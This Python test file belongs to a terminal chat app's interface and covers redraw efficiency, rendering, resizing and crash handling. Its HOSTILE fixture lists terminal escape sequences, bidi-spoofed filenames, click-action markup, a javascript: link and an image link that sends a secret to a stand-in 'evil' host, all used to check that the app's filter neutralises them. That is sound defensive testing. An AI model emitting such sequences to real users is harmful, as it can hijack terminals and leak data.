"""What is drawn: no more than changed, nothing hostile, at any size."""

from __future__ import annotations

import asyncio
import re
from collections import Counter
from collections.abc import Iterable
from typing import Any

import pytest
from fakes.app_driver import NARROW, WIDE, rows_of, seen, send, settled, until
from fakes.facts import fact, finds
from fakes.memories import memory
from fakes.scripted_model import ScriptedModel, says
from rich.segment import Segment
from textual._compositor import Compositor, ReflowResult
from textual.color import Color
from textual.css import query
from textual.dom import DOMNode
from textual.geometry import Offset, Size
from textual.selection import Selection
from textual.widget import Widget
from textual.widgets import Input

from orca_core.model.errors import ModelUnavailable
from orca_core.model.events import Reasoning
from orca_core.model.llm import Span
from orca_core.model.memories import Status
from orca_core.model.views import Forecast, MemoryView
from orca_tui.app.chat.answer import Answer
from orca_tui.app.chat.transcript import RoundView, ShownRound
from orca_tui.app.records.kind import Line, bar, record_row
from orca_tui.app.widgets.text import RowStyles, TerminalFilter, fitted
from orca_tui.marks import ASCII_MARKS, UNICODE_MARKS


class Drawing:
    """Counts as long as the patches of a test last, from the latest `begin` on."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.lines: Counter[str] = Counter()
        """Lines that were to be drawn anew, by the ids (else the classes) of their widgets."""
        self.layouts = 0
        self.looked_at = 0
        update, reflow, match = Compositor.update_widgets, Compositor.reflow, query.match

        def counting_update(compositor: Compositor, widgets: set[Widget]) -> None:
            self._count(widgets)
            update(compositor, widgets)

        def counting_reflow(compositor: Compositor, parent: Widget, size: Size) -> ReflowResult:
            self.layouts += 1
            return reflow(compositor, parent, size)

        def counting_match(selectors: Any, node: DOMNode) -> bool:
            self.looked_at += 1
            return match(selectors, node)

        monkeypatch.setattr(query, "match", counting_match)
        monkeypatch.setattr(Compositor, "update_widgets", counting_update)
        monkeypatch.setattr(Compositor, "reflow", counting_reflow)

    def begin(self) -> None:
        self.lines.clear()
        self.layouts = self.looked_at = 0

    def _count(self, widgets: Iterable[Widget]) -> None:
        for widget in widgets:
            lines = sum(region.height for region in widget._repaint_regions)
            if lines:
                self.lines[widget.id or " ".join(sorted(widget.classes))] += lines


ANSWER = """# A plan

First **some** text with `code`, long enough that it takes a second line on a screen that is as wide as this one is.

- the first, with *stress*, long enough that it takes a second line on a screen that is as wide as this one is
- [x] the second
  1. below it

```python
def answer() -> int:
    return 42  # and a remark that is longer than the answer is wide, so that the code becomes wider than its place, too
```

| name | value |
| --- | --- |
| one | [a link](http://a.b) |

> That is all, ~~or~~ not.
"""


@pytest.fixture
def drawing(monkeypatch: pytest.MonkeyPatch) -> Drawing:
    return Drawing(monkeypatch)


async def asked(app, pilot) -> RoundView:
    view = await app.main.transcript.begin(ShownRound(1, (Span("what now?"),)))
    await pilot.pause()
    return view


async def say(view: RoundView, pilot, text: str) -> None:
    await view.add(text)
    await pilot.pause()


def pieces(text: str) -> list[str]:
    return text.replace(" ", " \0").split("\0")


@pytest.mark.long
def test_a_word_in_a_line_that_is_there_draws_its_paragraph_alone(make_app, drive, drawing: Drawing) -> None:
    async def scenario(app, pilot) -> None:
        view = await asked(app, pilot)
        await say(view, pilot, "the first ")
        drawing.begin()
        await say(view, pilot, "words ")
        assert "the first words" in seen(app)
        assert drawing.lines == {"answer": 1}
        assert drawing.layouts == 0

    drive(make_app(), scenario)


@pytest.mark.long
def test_an_event_of_a_turn_lays_nothing_out_in_the_panes(make_app, drive, drawing: Drawing) -> None:
    async def scenario(app, pilot) -> None:
        await asked(app, pilot)
        drawing.begin()
        app.main.side.take(Reasoning("so "))
        await pilot.pause()
        assert drawing.layouts == 0
        assert not drawing.lines

    drive(make_app(), scenario)


def test_an_answer_looks_the_same_however_old_it_is(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        view = await asked(app, pilot)
        for piece in pieces(ANSWER):
            await say(view, pilot, piece)
        streamed = styled(view, pilot)
        await view.finish(ANSWER)
        await pilot.pause()
        finished = styled(view, pilot)
        await app.main.transcript.show([ShownRound(1, (Span("what now?"),), ANSWER)], 0, "")
        await pilot.pause()
        assert streamed == finished == styled(app.main.transcript.views[0], pilot)

    drive(make_app(), scenario)


def styled(view: RoundView, pilot) -> list[list[tuple[str, str]]]:
    """The answer cell by cell: what is drawn, and how."""
    region = view.query_one(Answer).region
    strips = pilot.app.screen._compositor.render_strips()
    cropped = [strip.crop(region.x, region.right) for strip in strips[region.y : region.bottom]]
    return [[(text, str(style and style.without_color)) for text, style, _ in strip.simplify()] for strip in cropped]


def test_lines_wider_than_the_answer_move_and_say_so(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        view = await asked(app, pilot)
        await view.finish("```\n" + "".join(f"{n:<10}" for n in range(30)) + "\n```")
        app.main.transcript.look_at(view)
        await pilot.pause()
        assert "›" in seen(app)
        assert "‹" not in seen(app)
        await pilot.press(*"l" * 40)
        assert "‹" in seen(app)
        assert "›" not in seen(app)
        assert "29" in seen(app)
        await pilot.press(*"h" * 40)
        assert "‹" not in seen(app)

    drive(make_app(), scenario)


def test_a_text_is_copied_as_it_was_written(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        view = await asked(app, pilot)
        text = "a paragraph of many words " * 12
        await view.finish(f"{text}\n\n- {text}")
        await pilot.pause()
        copied = view.query_one(Answer).get_selection(Selection(None, None))
        assert copied == (f"{text.strip()}\n\n• {text.strip()}", "\n")

    drive(make_app(), scenario)


async def filled(app, pilot, count: int = 30) -> None:
    for number in range(count):
        await app.bridge.orca.memories.add(f"用户 uses tool number {number}")
    rows_of(app).ask_again()
    await until(pilot, lambda: rows_of(app).count == count)
    rows_of(app).focus()
    await settled(app, pilot)


@pytest.mark.long
def test_a_step_of_the_cursor_draws_two_rows_and_what_is_said_of_the_memory(make_app, drive, drawing: Drawing) -> None:
    async def scenario(app, pilot) -> None:
        await filled(app, pilot)
        await pilot.press("j")
        drawing.begin()
        await pilot.press("k")
        assert rows_of(app).cursor == 0
        assert drawing.lines["memory-list"] == 2
        assert set(drawing.lines) <= {"memory-list", "memory-glance"}
        assert drawing.layouts == 0

    drive(make_app(), scenario)


def test_what_moved_is_drawn_though_somebody_asked_where_it_stands(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        await send(app, pilot, "the first question")
        compositor, view = app.main._compositor, app.main.transcript.last
        now = compositor.full_map[view]
        before = now._replace(region=now.region + Offset(0, -2))  # it stood higher, and has moved since
        compositor._full_map = {**compositor.full_map, view: before}
        compositor._dirty_regions.clear()
        compositor._full_map_invalidated = True  # as after each scroll

        assert compositor.full_map[view] == now
        for geometry in (before, now):
            assert geometry.clip.intersection(geometry.region) in compositor._dirty_regions

    drive(make_app(ScriptedModel(says("ok"))), scenario)


HOSTILE = (
    "\x1b]52;c;ZXZpbA==\x1b\\ \x1b]2;PWNED\x07",
    "\x1b[2J\x1b[HSPOOF\x1b[?1049l \x9b2J ok\rEVIL a\b\b \x7f",
    "abc \u202egpj.exe \u2066x\u2069 \U000e0041\U000e0042 \u200b\ufeff",
    "[@click=app.quit]x[/] [/] see [/etc/passwd] now [bold [b + should [$nosuch]",
    "[link=javascript:alert(1)]x[/link] [@click=\"app.screenshot('p.svg','/tmp')\"]y[/]",
    "![x](http://evil/?q=SECRET) [good](file:///etc/passwd) &#8238; &#27;",
    "a\x00b \ud800 café",
)
NOT_FOR_TERMINALS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)


@pytest.mark.parametrize("text", [" ".join(HOSTILE)], ids=["all-of-it"])
def test_hostile_text_is_shown_literally_everywhere(make_app, drive, text: str) -> None:
    async def scenario(app, pilot) -> None:
        orca = app.bridge.orca
        await orca.memories.add(f"a memory {text}", tags=["plain"])
        rows_of(app).ask_again()
        await send(app, pilot, f"{text} question about postgres")
        await send(app, pilot, f"/rename {text}")
        await send(app, pilot, f"/no-such-{text}")
        await orca.worker.finish()
        shots = [seen(app)]
        for keys in (("f3", "enter"), ("escape", "h"), ("escape", "e"), ("escape", "d"), ("escape", "f4", "enter")):
            await pilot.press(*keys)
            await pilot.pause()
            shots.append(seen(app))
        await pilot.press("escape", "escape", "f5")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "ctrl+s")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "f3", "w")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "escape", "ctrl+r")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape")
        app.main.transcript.last.focus()
        await pilot.press("enter")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "escape", "f3", "slash")
        app.main.query_one("#memory-filter", Input).value = text
        await pilot.pause()
        shots.append(seen(app))
        assert app.is_running
        assert not [shot for shot in shots if NOT_FOR_TERMINALS.search(shot)]

    agent = ScriptedModel(finds(fact(f"User has {text}"[:150], "", replace=text)))
    model = ScriptedModel(says(f"{text} answer [m1]"), [ModelUnavailable(provider=text, detail=text)])
    drive(make_app(model, agent), scenario)


def test_the_filter_is_the_last_gate() -> None:
    segments = [Segment(text) for text in HOSTILE]
    shown = TerminalFilter().apply(segments, Color.parse("black"))
    assert not [segment for segment in shown if NOT_FOR_TERMINALS.search(segment.text)]


def test_a_crash_is_told_to_who_started_the_app_and_prints_no_locals(make_app, capfd) -> None:
    async def scenario() -> None:
        app = make_app()
        with pytest.raises(RuntimeError, match="boom"):
            async with app.run_test(size=WIDE) as pilot:
                await until(pilot, lambda: app.bridge.is_ready)
                await pilot.pause()  # what the start asked for has come
                secret = "sk-live-123456"  # a local that must not be printed
                app.call_later(fail, secret)
                await pilot.pause()
        assert isinstance(app.crash, RuntimeError)
        assert app.return_code == 1
        if app.bridge.is_ready:
            await app.bridge.orca.aclose()

    def fail(_secret: str) -> None:
        raise RuntimeError("boom")

    asyncio.run(scenario())
    assert "sk-live" not in "".join(capfd.readouterr())


def test_any_size_is_survived(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        await send(app, pilot, "hello")
        for size in ((1, 1), (20, 5), (200, 60), (99, 30), (140, 20), NARROW):
            await pilot.resize_terminal(*size)
            await pilot.pause()
        assert "hello" in seen(app)

    drive(make_app(), scenario)


@pytest.mark.parametrize("text", ["postgres 固定在 16，端口 5433", "e\u0301" * 40, "👩‍👩‍👧‍👦 family", "", "a\nb\tc"])
@pytest.mark.parametrize("width", [1, 7, 24, 60])
def test_a_row_has_exactly_its_width(text: str, width: int) -> None:
    from rich.cells import cell_len

    assert cell_len(fitted(text, width, UNICODE_MARKS)) == width


def test_a_bar_shows_halves() -> None:
    assert bar(0.35, 10, UNICODE_MARKS) == "━━━╸╌╌╌╌╌╌"
    assert bar(0.02, 10, ASCII_MARKS) == ".........."


def test_a_memory_row_carries_its_state_in_signs_and_words() -> None:
    from rich.style import Style

    styles = RowStyles(*[Style()] * 5)
    core = MemoryView(memory(pinned=True, weight=9.2), Status.CORE, Forecast(None, None), 0.92)
    row = record_row(core, "1", Line("likes tea", "9.2", 0.92, behind="core"), 60, UNICODE_MARKS, styles)
    text = "".join(segment.text for segment in row)
    assert text.startswith(" ★")
    assert text.rstrip().endswith("core")


def test_a_mistake_is_said_and_the_chat_goes_on(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        async def broken() -> None:
            raise ZeroDivisionError("oops")

        app.bridge.ask(broken, lambda _none: None)
        await until(pilot, lambda: "a mistake in Orca: ZeroDivisionError: oops" in seen(app))
        await send(app, pilot, "hello")
        assert [type(error) for error in app.bridge.mistakes] == [ZeroDivisionError]
        app.bridge.mistakes.clear()

    drive(make_app(), scenario)
